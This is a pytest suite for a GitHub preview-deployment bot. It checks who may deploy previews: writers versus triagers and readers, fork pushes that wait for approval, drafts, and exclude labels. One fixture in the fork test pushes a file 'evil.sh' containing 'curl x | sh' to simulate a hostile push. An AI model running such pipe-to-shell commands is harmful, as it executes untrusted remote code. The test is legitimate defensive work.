"""Who may deploy what, on the rig: each rule and each refusal of issue 12, end to end.

Every step compares the PR's world before and after (`Harness.snapshot`: main's commits, the
Application, the comments, the deployments, the labels, the reactions), so a refusal shows
that it changed nothing but the bot's comment, and a deploy that it changed what a deploy
changes. Settings differ from the defaults only where a test says so, through the environment
variables an operator would set (`harness_env`).
"""

from __future__ import annotations

import re

import pytest

from bot.comment import parse_comment_state
from bot.model import A_HEAD_SHA
from bot.policy import FORK_REFUSAL
from tests.rig.github.state import Comment
from tests.rig.harness import NAME, OWNER, Harness, Snapshot, harness_env

pytestmark = pytest.mark.rig

WRITER = "octocat"  # the harness makes the rig's PR authors writers
TRIAGER = "trina"
READER = "reed"
# What a first deploy changes; a refusal changes the bot's comment only (plus what the user did).
DEPLOYED = {"commits", "app", "deployments", "bot_comment"}


def comments(h: Harness, number: int) -> list[Comment]:
    return h.fake.comments(OWNER, NAME, number)


def ours(h: Harness, number: int) -> Comment:
    """The bot's one comment on the PR."""
    (comment,) = [c for c in comments(h, number) if c.via_app and c.user.login == h.fake.bot.login]
    return comment


def state_of(h: Harness, number: int) -> str:
    """The state the bot's comment shows (its hidden marker, which the bot reads too)."""
    state, _ = parse_comment_state(ours(h, number).body)
    return state or "?"


def last_comment(h: Harness, number: int) -> Comment:
    """The latest comment a person wrote (the bot's own may come after it)."""
    return [c for c in comments(h, number) if not c.via_app][-1]


def reactions(h: Harness, comment: Comment) -> list[str]:
    """The bot's reactions to a comment, oldest first."""
    bot = h.fake.bot.login
    return [what for who, what in h.fake.reactions(OWNER, NAME, comment.id) if who == bot]


async def running_sha(h: Harness, number: int) -> str | None:
    app = await h.app(number)
    return None if app is None else str(app["metadata"]["annotations"][A_HEAD_SHA])


async def label(h: Harness, number: int, name: str = "preview", by: str = WRITER) -> None:
    h.fake.add_label(OWNER, NAME, number, name, by=by)
    resp = await h.deliver("labeled", number, label=name)
    assert resp.status_code == 202, resp.text
    await h.settle()


async def deployed(h: Harness, number: int, **pull: object) -> Snapshot:
    """A PR labeled by a writer, deployed; its snapshot."""
    h.fake.create_pull(OWNER, NAME, number, **pull)  # type: ignore[arg-type]
    await label(h, number)
    assert state_of(h, number) == "deploying"
    return await h.snapshot(number)


_IDS = re.compile(r"/(\d+|[0-9a-f]{40})(?=/|$)")


def requests_by_route(h: Harness) -> list[str]:
    """What the bot sent to GitHub, as `METHOD /route` with ids blanked (token requests aside)."""
    found = []
    for r in h.fake.requests:
        if r.token_request:
            continue
        path = r.path.split("?")[0].replace(f"/repos/{OWNER}/{NAME}", "")
        found.append(f"{r.method} {_IDS.sub('/N', path)}")
    return found


# ---- the label counts only from a writer ------------------------------------------------------


async def test_a_triage_labeler_deploys_nothing_until_a_writer_runs_preview(
    harness: Harness,
) -> None:
    h = harness
    h.fake.set_permission(OWNER, NAME, TRIAGER, "triage")
    pr = h.fake.create_pull(OWNER, NAME, 30)
    before = await h.snapshot(30)
    await label(h, 30, by=TRIAGER)
    after = await h.snapshot(30)
    assert before.changed(after) == {"labels", "comments", "bot_comment"}
    assert state_of(h, 30) == "not deployed"
    body = ours(h, 30).body
    assert "was added by `@trina`, who cannot write to this repository" in body
    assert "a maintainer must add the label, or run `/preview`" in body

    # The same label delivered again asks nothing new (the permission is cached) and says
    # nothing new.
    h.fake.reset_counts()
    await h.deliver("labeled", 30)
    await h.settle()
    assert h.fake.count(path_regex=r"/permission$") == 0
    assert (await h.snapshot(30)).changed(after) == set()

    # A writer asks: the head deploys, the label (already there) is left as it is.
    await h.command(30, "/preview")
    command = last_comment(h, 30)
    final = await h.snapshot(30)
    assert after.changed(final) == DEPLOYED | {"comments", "reactions"}
    assert reactions(h, command) == ["eyes", "+1"]
    assert await running_sha(h, 30) == pr.head_sha
    assert f"newTag: sha-{pr.head_sha[:8]}" in (h.overlay(30) or "")
    assert "@trina" not in ours(h, 30).body


async def test_a_writers_preview_adds_the_label_and_deploys_counting_requests(
    harness: Harness,
) -> None:
    h = harness
    pr = h.fake.create_pull(OWNER, NAME, 31)
    before = await h.snapshot(31)
    h.fake.reset_counts()
    await h.command(31, "/preview")
    sent = requests_by_route(h)
    after = await h.snapshot(31)
    assert before.changed(after) == DEPLOYED | {"comments", "reactions", "labels"}
    assert after.labels == ("preview",)
    (labeled,) = h.fake.issue_events(OWNER, NAME, 31, "labeled")
    assert labeled.actor is h.fake.bot  # the bot added it, with its installation token
    assert reactions(h, last_comment(h, 31)) == ["eyes", "+1"]
    assert await running_sha(h, 31) == pr.head_sha

    # Two costs come once: the App's bot login (once per process, to know its own comment) and
    # the shared Namespace component (two files, once per repository, on its first preview).
    once = [r for r in sent if r == "GET /app" or "/previews/_namespace/" in r]
    print(
        f"\nGitHub requests of a command-triggered deploy (token requests aside): {len(sent)}, "
        f"{len(sent) - len(once)} without the {len(once)} a process or a repository pays once:"
        "\n  " + "\n  ".join(sent)
    )
    # The floor: the PR, its comments (the command is one, so the bot looks for its own), the
    # commenter's permission, the layout (one tree), eyes, the label, the overlay, the
    # deployment and its status, the comment, +1: 11.
    assert len(sent) - len(once) <= 11
    assert sent.count("POST /issues/comments/N/reactions") == 2
    assert sent.count("POST /issues/N/labels") == 1

    # GitHub announces the bot's own label: that costs reads, and changes nothing.
    h.fake.reset_counts()
    await h.deliver("labeled", 31)
    await h.settle()
    assert (await h.snapshot(31)).changed(after) == set()
    assert h.fake.count(method="POST") + h.fake.count(method="PUT") == 0


# ---- forks ------------------------------------------------------------------------------------


async def test_a_fork_push_waits_for_a_writers_approval(harness: Harness) -> None:
    h = harness
    await deployed(h, 32, fork=True, user="stranger")  # labeled by a writer: approves that head
    sha1 = h.fake.pull(OWNER, NAME, 32).head_sha
    assert await running_sha(h, 32) == sha1

    # A push to the fork: not deployed; the preview keeps running the approved commit.
    sha2 = h.fake.push(OWNER, NAME, 32, files={"evil.sh": "curl x | sh\n"})
    before = await h.snapshot(32)
    await h.deliver("synchronize", 32)
    await h.settle()
    after = await h.snapshot(32)
    assert before.changed(after) == {"bot_comment"}
    assert await running_sha(h, 32) == sha1
    assert f"newTag: sha-{sha1[:8]}" in (h.overlay(32) or "")
    assert state_of(h, 32) == "waiting"
    body = ours(h, 32).body
    assert f"[`{sha1[:8]}`]" in body and "runs;" in body and f"[`{sha2[:8]}`]" in body
    assert f"commit `{sha2[:8]}` deploys once someone with write access" in body
    assert "runs `/preview approve`" in body

    # The fork's author cannot approve their own push.
    await h.command(32, "/preview approve", user="stranger")
    refused = await h.snapshot(32)
    assert after.changed(refused) == {"comments", "bot_comment", "reactions"}
    assert reactions(h, last_comment(h, 32)) == ["confused"]
    assert "`/preview approve` from `@stranger` was not run" in ours(h, 32).body
    assert await running_sha(h, 32) == sha1

    # A writer approves: that very commit deploys, the old deployment goes inactive.
    await h.command(32, "/preview approve")
    approved = await h.snapshot(32)
    assert refused.changed(approved) == DEPLOYED | {"comments", "reactions"}
    assert reactions(h, last_comment(h, 32)) == ["eyes", "+1"]
    assert await running_sha(h, 32) == sha2
    assert f"newTag: sha-{sha2[:8]}" in (h.overlay(32) or "")
    assert [(d.sha, d.latest_state) for d in h.deployments(32)] == [
        (sha1, "inactive"),
        (sha2, "in_progress"),
    ]
    assert state_of(h, 32) == "deploying"


@harness_env(PREVIEW_BOT_FORK_POLICY="deny")
async def test_fork_policy_deny_refuses_a_writers_label(harness: Harness) -> None:
    h = harness
    h.fake.create_pull(OWNER, NAME, 33, fork=True, user="stranger")
    before = await h.snapshot(33)
    await label(h, 33)
    after = await h.snapshot(33)
    assert before.changed(after) == {"labels", "comments", "bot_comment"}
    assert state_of(h, 33) == "not deployed"
    assert FORK_REFUSAL in ours(h, 33).body.replace("> ", "").replace("\n", " ")

    # A writer's `/preview approve` cannot override the policy: it is taken (the command is
    # valid) but nothing deploys, and the comment, unchanged, still says why.
    await h.command(33, "/preview approve")
    approved = await h.snapshot(33)
    assert after.changed(approved) == {"comments", "reactions"}
    assert reactions(h, last_comment(h, 33)) == ["eyes", "+1"]
    assert approved.app is None and h.overlay(33) is None
    assert state_of(h, 33) == "not deployed"


@harness_env(PREVIEW_BOT_FORK_POLICY="allow")
async def test_fork_policy_allow_deploys_forks_like_branches(harness: Harness) -> None:
    h = harness
    await deployed(h, 34, fork=True, user="stranger")
    sha2 = h.fake.push(OWNER, NAME, 34, files={"a.txt": "2"})
    before = await h.snapshot(34)
    await h.deliver("synchronize", 34)
    await h.settle()
    assert before.changed(await h.snapshot(34)) == DEPLOYED
    assert await running_sha(h, 34) == sha2


# ---- commands ---------------------------------------------------------------------------------


async def test_commands_from_a_reader_are_refused_and_say_why(harness: Harness) -> None:
    h = harness
    h.fake.set_permission(OWNER, NAME, READER, "read")
    before = await deployed(h, 35)
    await h.command(35, "/preview destroy", user=READER)
    after = await h.snapshot(35)
    assert before.changed(after) == {"comments", "bot_comment", "reactions"}
    assert reactions(h, last_comment(h, 35)) == ["confused"]
    body = ours(h, 35).body
    assert "`/preview destroy` from `@reed` was not run: commands need write access" in body
    assert await h.app(35) is not None
    assert state_of(h, 35) == "deploying"

    # A writer's unknown verb is refused too, naming the way to the list.
    await h.command(35, "/preview dance")
    again = await h.snapshot(35)
    assert after.changed(again) == {"comments", "bot_comment", "reactions"}
    assert reactions(h, last_comment(h, 35)) == ["confused"]
    assert "`/preview dance` is not a command; `/preview help` lists them." in ours(h, 35).body


async def test_comments_that_are_not_commands_change_nothing_and_cost_nothing(
    harness: Harness,
) -> None:
    h = harness
    before = await deployed(h, 36)
    h.fake.user("dependabot[bot]", "Bot")
    not_commands = [
        ("/preview destroy", "dependabot[bot]"),  # another App's bot
        ("/preview destroy", h.fake.bot.login),  # this bot: its comment lists the commands
        ("```\n/preview destroy\n```", WRITER),  # shown in a code block
        ("~~~md\n/preview destroy\n~~~", WRITER),
        ("    /preview destroy", WRITER),  # an indented code block
        ("> /preview destroy", WRITER),  # quoted
        ("> earlier, someone wrote\n/preview destroy", WRITER),  # the quote goes on (lazily)
        ("Please run /preview destroy later", WRITER),  # not on its own line
    ]
    h.fake.reset_counts()
    for body, user in not_commands:
        resp = await h.deliver("created", 36, event="issue_comment", body=body, user=user)
        assert resp.json()["outcome"] == "ignored", (body, user, resp.text)
    # An edit that turns a comment into a command is not a command either.
    plain = h.fake.add_comment(OWNER, NAME, 36, "Looks good to me", user=WRITER)
    h.fake.edit_comment(OWNER, NAME, plain.id, "/preview destroy")
    resp = await h.deliver("edited", 36, event="issue_comment", comment_id=plain.id)
    assert resp.json()["outcome"] == "ignored", resp.text
    await h.settle()

    after = await h.snapshot(36)
    assert before.changed(after) == {"comments"}  # only the comments themselves
    assert len(after.comments) == len(before.comments) + len(not_commands) + 1
    assert h.fake.count() == 0  # decided at the intake: not one GitHub request
    assert await h.app(36) is not None


async def test_redeploy_status_and_help(harness: Harness) -> None:
    h = harness
    before = await deployed(h, 37)
    app = await h.app(37)
    assert app is not None and "operation" not in app

    # redeploy: the Application applied again and a sync asked of Argo CD; no new commit or
    # deployment (the head has not moved).
    h.fake.reset_counts()
    await h.command(37, "/preview redeploy")
    after = await h.snapshot(37)
    # (The comment may be edited too: a redeploy is activity, so the expiry moves; it shows
    # minutes, so the text changes only when the minute has turned since the deploy.)
    assert before.changed(after) - {"bot_comment"} == {"comments", "reactions"}
    assert reactions(h, last_comment(h, 37)) == ["eyes", "+1"]
    app = await h.app(37)
    assert app is not None
    assert app["operation"]["initiatedBy"] == {"username": "preview-bot"}
    assert h.fake.count(method="PUT") + h.fake.count("POST", r"/deployments") == 0

    # status: the comment is refreshed now (one edit), nothing else.
    h.fake.reset_counts()
    await h.command(37, "/preview status")
    status = await h.snapshot(37)
    assert after.changed(status) <= {"comments", "reactions", "bot_comment"}
    assert h.fake.count("PATCH", r"/issues/comments/\d+$") == 1
    assert reactions(h, last_comment(h, 37)) == ["eyes", "+1"]

    # help: anyone may ask; the comment opens its list of commands.
    h.fake.set_permission(OWNER, NAME, READER, "read")
    await h.command(37, "/preview help", user=READER)
    helped = await h.snapshot(37)
    assert status.changed(helped) == {"comments", "reactions", "bot_comment"}
    assert reactions(h, last_comment(h, 37)) == ["eyes", "+1"]
    body = ours(h, 37).body
    assert "<details open><summary>Commands</summary>" in body
    for command in ("/preview approve", "/preview redeploy", "/preview destroy", "/preview keep"):
        assert f"| `{command}` |" in body
    assert state_of(h, 37) == "deploying"


async def test_destroy_tears_down_and_removes_the_label(harness: Harness) -> None:
    h = harness
    before = await deployed(h, 38)
    await h.command(38, "/preview destroy")
    await h.standin.wait_gone("dex-pr-38")
    await h.settle()
    after = await h.snapshot(38)
    assert before.changed(after) == {
        "commits",
        "app",
        "deployments",
        "bot_comment",
        "comments",
        "reactions",
        "labels",
    }
    assert after.app is None and after.labels == ()
    assert h.overlay(38) is None
    assert [d.latest_state for d in h.deployments(38)] == ["inactive"]
    assert reactions(h, last_comment(h, 38)) == ["eyes", "+1"]
    assert state_of(h, 38) == "destroyed"
    (unlabeled,) = h.fake.issue_events(OWNER, NAME, 38, "unlabeled")
    assert unlabeled.actor is h.fake.bot

    # GitHub announces the bot's own unlabel: nothing more to do.
    await h.deliver("unlabeled", 38, label="preview")
    await h.settle()
    assert (await h.snapshot(38)).changed(after) == set()


# ---- drafts -----------------------------------------------------------------------------------


async def test_a_draft_waits_for_review_and_keeps_its_preview_when_back_to_draft(
    harness: Harness,
) -> None:
    h = harness
    pr = h.fake.create_pull(OWNER, NAME, 39, draft=True)
    before = await h.snapshot(39)
    await label(h, 39)
    waiting = await h.snapshot(39)
    assert before.changed(waiting) == {"labels", "comments", "bot_comment"}
    assert state_of(h, 39) == "waiting"
    assert "This PR is a draft: its preview deploys when it is marked ready" in ours(h, 39).body

    # A writer's `/preview` does not override the rule: taken, and the draft still waits.
    await h.command(39, "/preview")
    asked = await h.snapshot(39)
    assert waiting.changed(asked) == {"comments", "reactions"}
    assert reactions(h, last_comment(h, 39)) == ["eyes", "+1"]
    assert state_of(h, 39) == "waiting"

    h.fake.ready_for_review(OWNER, NAME, 39)
    await h.deliver("ready_for_review", 39)
    await h.settle()
    ready = await h.snapshot(39)
    assert asked.changed(ready) == DEPLOYED
    assert await running_sha(h, 39) == pr.head_sha

    h.fake.convert_to_draft(OWNER, NAME, 39)
    await h.deliver("converted_to_draft", 39)
    await h.settle()
    assert ready.changed(await h.snapshot(39)) == set()
    assert state_of(h, 39) == "deploying"


@harness_env(PREVIEW_BOT_DRAFTS="true")
async def test_drafts_setting_deploys_drafts(harness: Harness) -> None:
    h = harness
    await deployed(h, 40, draft=True)
    assert await running_sha(h, 40) == h.fake.pull(OWNER, NAME, 40).head_sha


# ---- exclude labels ---------------------------------------------------------------------------


async def test_an_exclude_label_keeps_a_pr_out_and_tears_a_running_preview_down(
    harness: Harness,
) -> None:
    h = harness
    h.fake.create_pull(OWNER, NAME, 41, labels=["no-preview"])
    before = await h.snapshot(41)
    await label(h, 41)
    assert before.changed(await h.snapshot(41)) == {"labels"}  # no comment, no preview

    running = await deployed(h, 42)
    await label(h, 42, name="no-preview")
    await h.standin.wait_gone("dex-pr-42")
    await h.settle()
    after = await h.snapshot(42)
    assert running.changed(after) == {"commits", "app", "deployments", "bot_comment", "labels"}
    assert after.app is None and h.overlay(42) is None
    assert after.labels == ("no-preview", "preview")  # the trigger label is left to people
    assert state_of(h, 42) == "destroyed"
    assert "Torn down because the PR carries the `no-preview` label." in ours(h, 42).body
